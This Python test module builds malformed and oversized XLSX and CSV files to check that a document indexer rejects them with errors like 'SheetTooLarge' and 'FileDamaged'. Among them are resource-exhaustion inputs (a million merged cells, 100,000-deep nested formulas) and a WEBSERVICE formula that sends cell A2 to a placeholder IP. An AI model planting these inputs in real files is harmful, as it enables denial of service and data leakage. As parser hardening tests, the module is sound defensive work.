"""Workbooks whose sheets are absurd, and tables of text without end."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.hostile_file import INDEXED, Hostile, RawMember, holding, repeated, with_members
from tests.hostile.office_files import excel

_NAMESPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_PART = "xl/worksheets/sheet1.xml"
_CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>日当</t></is></c></row>'
_TOO_MUCH = ("SheetTooLarge",)


def sheet(rows: str, before: str = "", after: str = "") -> bytes:
    return f"<worksheet {_NAMESPACE}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>".encode()


def workbook(part: bytes | RawMember, **others: bytes | RawMember) -> bytes:
    return with_members(excel(), {_PART: part, **others})


def inline(address: str, text: str = "値") -> str:
    return f'<c r="{address}" t="inlineStr"><is><t>{text}</t></is></c>'


def files() -> Iterator[Hostile]:
    yield from _extents()
    yield from _strings()
    yield from _structure()
    yield from _wide_tables()


def _extents() -> Iterator[Hostile]:
    kind = "absurd_sheet"
    whole = '<dimension ref="A1:XFD1048576"/>'
    yield holding(kind, "claims-everything.xlsx", workbook(sheet(_CELL, whole)), INDEXED)
    corner = f'<row r="1048576">{inline("XFD1048576")}</row>'
    yield holding(kind, "last-cell.xlsx", workbook(sheet(_CELL + corner, whole)), INDEXED)
    beyond = f'<row r="99999999">{inline("ZZZZZ99999999")}</row>'
    yield holding(kind, "beyond-the-last-cell.xlsx", workbook(sheet(_CELL + beyond)), INDEXED, "FileDamaged")
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield holding(kind, "merged-whole.xlsx", workbook(sheet(_CELL, after=merged)), *_TOO_MUCH)
    packed, size = repeated(b'<mergeCell ref="A1:B1"/>', 1_000_000)
    million = workbook(RawMember(_PART, packed, size))
    yield holding(kind, "million-merged.xlsx", million, *_TOO_MUCH)
    overlapping = '<mergeCell ref="A1:ZZ10000"/>' * 50
    yield holding(
        kind,
        "merged-over-each-other.xlsx",
        workbook(sheet(_CELL, after=f"<mergeCells>{overlapping}</mergeCells>")),
        *_TOO_MUCH,
    )
    packed, size = repeated(b"<row><c><v>1</v></c><c><v>2</v></c></row>", 4_000_000)
    rows = RawMember(_PART, packed, size)  # no XML from its second row on, but cells enough before it
    yield holding(kind, "eight-million-cells.xlsx", workbook(rows), *_TOO_MUCH)
    wide = "".join(f"<c><v>{n}</v></c>" for n in range(16_384))
    yield holding(
        kind, "as-wide-as-can-be.xlsx", workbook(sheet(f'<row r="1">{wide}</row><row r="2">{wide}</row>')), INDEXED
    )
    yield holding(kind, "many-empty-rows.xlsx", workbook(sheet(_CELL + "<row/>" * 200_000)), INDEXED)


def _strings() -> Iterator[Hostile]:
    kind = "shared_strings"
    string = f"<si><t>{'あ' * 30_000}</t></si>"
    table = f"<sst {_NAMESPACE}>{string}</sst>".encode()
    by_reference = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 10_001))
    others = {"xl/sharedStrings.xml": table}
    yield holding(kind, "one-string-ten-thousand-times.xlsx", _shared(sheet(by_reference), others), "FileTextTooLong")
    missing = '<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'
    yield holding(kind, "index-out-of-range.xlsx", _shared(sheet(missing), others), "FileDamaged")
    negative = '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'
    yield holding(kind, "index-negative.xlsx", _shared(sheet(negative), others), INDEXED, "FileDamaged")
    many = f"<sst {_NAMESPACE}>{'<si><t>a</t></si>' * 40_000}</sst>".encode()
    first = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    yield holding(kind, "many-strings.xlsx", _shared(sheet(first), {"xl/sharedStrings.xml": many}), INDEXED)


def _shared(part: bytes, others: dict[str, bytes]) -> bytes:
    """openpyxl finds the strings by the type in [Content_Types].xml."""
    types = (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        b"</Types>"
    )
    return workbook(part, **{"[Content_Types].xml": types, **others})


def _structure() -> Iterator[Hostile]:
    kind = "absurd_workbook"
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 5001))
    book = f'<workbook {_NAMESPACE} xmlns:r="{relations}"><sheets>{listed}</sheets></workbook>'.encode()
    yield holding(
        kind, "one-sheet-five-thousand-times.xlsx", workbook(sheet(_CELL), **{"xl/workbook.xml": book}), *_TOO_MUCH
    )
    none = f'<workbook {_NAMESPACE} xmlns:r="{relations}"><sheets/></workbook>'.encode()
    yield holding(
        kind, "no-sheets.xlsx", workbook(sheet(_CELL), **{"xl/workbook.xml": none}), "FileWithoutText", "FileDamaged"
    )
    formula = '<row r="1"><c r="A1"><f>' + "(" * 100_000 + "1" + ")" * 100_000 + "</f></c></row>"
    yield holding(kind, "formula-nested.xlsx", workbook(sheet(formula + _CELL.replace("1", "2"))), INDEXED)
    outside = '<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f><v>結果</v></c></row>'
    yield holding(kind, "formula-network.xlsx", workbook(sheet(outside)), INDEXED, "FileDamaged")
    number = '<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>nan</v></c><c r="C1" t="d"><v>9999-99-99</v></c></row>'
    yield holding(
        kind, "numbers-without-end.xlsx", workbook(sheet(number + _CELL.replace("1", "2"))), INDEXED, "FileDamaged"
    )
    date = '<row r="1"><c r="A1" s="1"><v>99999999999</v></c></row>'
    yield holding(kind, "date-too-far.xlsx", workbook(sheet(date + _CELL.replace("1", "2"))), INDEXED, "FileDamaged")
    styles = f"<styleSheet {_NAMESPACE}><cellXfs>{'<xf/>' * 40_000}</cellXfs></styleSheet>".encode()
    yield holding(
        kind, "styles-without-end.xlsx", workbook(sheet(_CELL), **{"xl/styles.xml": styles}), INDEXED, "FileDamaged"
    )


def _wide_tables() -> Iterator[Hostile]:
    kind = "absurd_csv"
    million = "a," * 1_000_000
    yield holding(kind, "million-columns.csv", f"{million}\n1,2\n", "SheetTooLarge")
    ragged = "a,b\n1,2\n" + "\n".join(["x,y"] * 30_000) + "\n" + "," * 500_000 + "z\n"
    yield holding(kind, "one-row-wide.csv", ragged, "SheetTooLarge")
    yield holding(kind, "long-header.csv", "長" * 100_000 + ",b\n" + "1,2\n" * 5000, "FileTextTooLong")
    yield holding(kind, "open-quote.csv", 'a,b\n"' + "あ,い\n" * 30_000, "FileDamaged", INDEXED)
    yield holding(kind, "quotes.csv", '"' * 500_000, INDEXED, "FileWithoutText", "FileDamaged")
    yield holding(kind, "long-field.csv", "a,b\n" + "x" * 1_100_000 + ",y\n", "FileDamaged")
    yield holding(kind, "separators.csv", ",\t;" * 200_000, "SheetTooLarge")
    yield holding(kind, "only-newlines.csv", "\n" * 300_000, "FileWithoutText")
